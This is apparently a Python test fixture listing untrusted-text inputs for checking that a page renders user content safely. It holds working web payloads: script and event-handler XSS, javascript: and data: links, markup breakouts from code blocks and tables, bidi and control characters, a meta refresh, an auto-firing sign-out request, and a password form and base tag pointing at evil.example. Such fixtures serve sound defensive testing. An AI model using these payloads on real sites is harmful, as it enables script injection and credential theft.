"""What others may write, and would run or mislead if the page were careless."""

from __future__ import annotations

TEXTS = (
    "<script>window.owned = 1</script>",
    '<img src=x onerror="window.owned = 1"><svg onload="window.owned = 1"><math><mi//xlink:href=\'javascript:1\'>',
    "[click](javascript:window.owned=1) [and](JaVaScRiPt:window.owned=1)",
    "[data](data:text/html,<script>window.owned=1</script>)",
    '![x](javascript:window.owned=1 "onerror=1") <javascript:window.owned=1> [v](vbscript:1)',
    '[q](http://a.example/"onmouseover="window.owned=1) [s](<http://a.example/ style=x>)',
    '```"><script>window.owned = 1</script>\n</code></pre><script>window.owned = 1</script>\n```',
    "`</code><script>window.owned = 1</script>`",
    "| <b onclick=window.owned=1> | b |\n|---|---|\n| </td><script>window.owned=1</script> | {{ 7 * 7 }} {% raw %} |",
    "</article></main></body><iframe srcdoc='<script>parent.owned=1</script>'>",
    "\u202egnp.exe \u2066\u2067\u200f\u0000\u0007\x1b[31m \ud83d " + "a\u0301" * 40 + " \u200b" * 20,
    "&lt;script&gt; &#60;script&#62; <!-- --> <![CDATA[ ]]> <?php ?> <style>*{display:none}</style>",
    "> " * 60 + "deep",
    "<form action=https://evil.example><input name=password autofocus></form><base href=https://evil.example>",
    '<a href="#" hx-get="/sign-out" data-hx-post="/sign-out" hx-trigger="load">x</a>',
    "<meta http-equiv=refresh content=0>",
)
